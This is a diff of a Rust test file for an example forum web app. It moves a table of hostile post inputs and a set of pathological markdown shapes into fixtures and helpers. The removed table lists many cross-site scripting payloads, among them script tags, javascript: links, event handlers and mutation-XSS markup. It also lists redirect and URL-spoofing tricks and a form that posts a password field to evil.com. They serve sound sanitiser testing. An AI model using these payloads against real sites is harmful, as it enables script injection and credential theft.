@@ -5,6 +5,8 @@
 #[path = "../examples/forum.rs"]
 #[allow(dead_code, reason = "the test is not the program")]
 mod forum;
+#[path = "support/table.rs"]
+mod table;
 
 use axum::Router;
 use axum::body::{Body, to_bytes};
@@ -131,72 +133,10 @@ async fn a_post_links_in_every_script() {
     assert_eq!(all(&page, "article code").len(), 1);
 }
 
-/// A post, and what a reader is still to see of it.
-const HOSTILE: [(&str, &str); 53] = [
-    ("http://x.com/\"onmouseover=\"alert(1) y", "http://x.com/\"onmouseover=\"alert(1) y"),
-    ("http://x.com/'onmouseover='alert(1) y", "http://x.com/'onmouseover='alert(1) y"),
-    ("http://x.com/`onmouseover=`alert(1) y", "onmouseover="),
-    ("http://x.com/\"><script>alert(1)</script> y", "<script>alert(1)</script> y"),
-    ("http://x.com/&quot;onload=&quot;alert(1) y", "http://x.com/\"onload=\"alert(1) y"),
-    ("\"onload=alert(1)\"@x.com y", "\"onload=alert(1)\"@x.com y"),
-    ("http://x.com\\\"onload=alert(1) y", "http://x.com\"onload=alert(1) y"),
-    ("javascript:alert(1) y", "javascript:alert(1) y"),
-    ("javascript://x.com/%0Aalert(1) y", "javascript://x.com/%0Aalert(1) y"),
-    ("JaVaScRiPt:alert(1)//x.com y", "JaVaScRiPt:alert(1)//x.com y"),
-    ("[x](javascript:alert(1)) y", "x y"),
-    ("[x](JAVASCRIPT:alert(1)) y", "x y"),
-    ("[x](java\tscript:alert(1)) y", "[x](java script:alert(1)) y"),
-    ("[x](&#106;avascript:alert(1)) y", "x y"),
-    ("[x](<java&#10;script:alert(1)>) y", "x y"),
-    ("[x](&#1;javascript:alert(1)) y", "x y"),
-    ("[x](vbscript:msgbox(1)) [z](data:text/html,<script>alert(1)</script>) y", "x z y"),
-    ("[x](//evil.com) [z](/logout) [w](#top) y", "x z w y"),
-    ("[x](http://x.com \"a\\\" onload=alert(1)\") y", "x y"),
-    ("[x]: javascript:alert(1)\n\n[x] y", "x y"),
-    ("<javascript:alert(1)> y", "javascript:alert(1) y"),
-    ("![x](x\" onerror=\"alert(1)) ![x](http://x.com/track) y", "y"),
-    ("<script>alert(1)</script>\n\ny", "<script>alert(1)</script> y"),
-    ("<script src=//evil.com></script\n\ny", "<script src=//evil.com></script"),
-    ("y <img src=x onerror=alert(1)> y", "y <img src=x onerror=alert(1)> y"),
-    ("y <svg onload=alert(1)><a xlink:href='javascript:alert(1)'>z</a></svg>", "y <svg onload"),
-    ("<a href=javascript:alert(1)>x</a> y", "<a href=javascript:alert(1)>x</a> y"),
-    ("<a href=' &#x6A;avascript:alert(1)'>x</a> y", "avascript:alert(1)'>x</a> y"),
-    ("<a href=https://x.com onclick=alert(1) rel=opener target=_top>x</a> y", "x</a> y"),
-    ("<a href=https://x.com>example.com <a href=https://y.com>z</a> y", "z</a> y"),
-    ("y <a href=\"", "y <a href=\""),
-    ("<a href=\"https://x.com\">y\n\nexample.com", "y example.com"),
-    ("<a href=\"\n\n[y](https://y.com \">\")", "<a href=\" y"),
-    ("<div><a href=https://x.com><table><td>\n\n- [y](https://y.com)", "y"),
-    ("<div><a href=https://x.com><table><td><a href=https://y.com>y", "y"),
-    ("[x <a href=https://x.com>y</a>](https://z.com) [[y](https://y.com)](https://x.com)", "y"),
-    ("y\n\n<!--", "y <!--"),
-    ("y <!-- --!> example.com", "y <!-- --!> example.com"),
-    ("<style>body { display: none }</style>\n\ny", "<style>body { display: none }</style> y"),
-    ("<p style='position:fixed'>y</p>", "<p style='position:fixed'>y</p>"),
-    ("<form action=//evil.com><input name=password></form>\n\ny", "y"),
-    ("</div></article></main></body></html>\n\ny", "</div></article></main></body></html> y"),
-    ("y <textarea><title><plaintext><xmp><noscript>", "y <textarea><title><plaintext>"),
-    (
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-        "<math>",
-    ),
-    ("<base href=//evil.com><meta http-equiv=refresh content=0;//evil.com>\n\ny", "y"),
-    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\ny", "y"),
-    ("y <bdo dir=rtl>moc.knab</bdo>", "y <bdo dir=rtl>moc.knab</bdo>"),
-    (
-        "```\"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```\ny",
-        "</code></pre><script>",
-    ),
-    ("| a |\n|---|\n| \"><script>y</script> |", "\"><script>y</script>"),
-    ("NUL \0 example.com/\0x <a href=https://x.com/\0>y</a>", "y</a>"),
-    ("\u{202E}moc.live//:sptth https://x.com/\u{202E}gpj y", "y"),
-    ("https://bank.com@evil.com https://x.com%2F@evil.com y", "https://bank.com@evil.com"),
-    ("<table><a href=https://x.com><td><a href=https://y.com>y</a></table>", "y"),
-];
-
 #[tokio::test]
 async fn hostile_posts_harm_nobody() {
-    for (source, left) in HOSTILE {
+    for row in table::rows(include_str!("../fixtures/forum/posts.txt")) {
+        let (source, left) = (&*table::unescaped(row[0]), &*table::unescaped(row[1]));
         let app = forum::app();
         post(&app, "", "before.example.com").await;
         let author: String = source.chars().take(forum::MAX_AUTHOR).collect();
@@ -235,32 +175,11 @@ async fn what_deceives_stays_text() {
 
 #[tokio::test]
 async fn large_and_deep_posts_cost_little() {
-    for shape in [
-        ">",
-        "> ",
-        "*",
-        "_a",
-        "[",
-        "![",
-        "(",
-        "<b>",
-        "<a href=x>",
-        "</p>",
-        "- ",
-        "1) ",
-        "`",
-        "&",
-        "http://",
-        "a.com ",
-        "@",
-        "a@b.",
-        "<!--",
-        "|-",
-        "a.com/(",
-        "\n\n<p>",
-        "[x](y ",
-        "~~a",
-    ] {
+    let shapes = table::pieces(
+        r"> >\u{20} * _a [ ![ ( <b> <a\u{20}href=x> 
+        </p> -\u{20} 1)\u{20} ` & http:// a.com\u{20} @ a@b. <!-- |- a.com/( \n\n<p> [x](y\u{20} ~~a",
+    );
+    for shape in shapes {
         let source: String = shape.chars().cycle().take(forum::MAX_POST).collect();
         let start = std::time::Instant::now();
         let app = forum::app();
@@ -269,7 +188,7 @@ async fn large_and_deep_posts_cost_little() {
         let took = start.elapsed();
         assert!(took.as_secs() < 10, "{shape:?}: {took:?}");
         let page = page(&app).await;
-        check_harmless(&page, shape);
+        check_harmless(&page, &shape);
         assert_eq!(posts(&page)[0].1, "after.example.com", "{shape}");
     }
 }
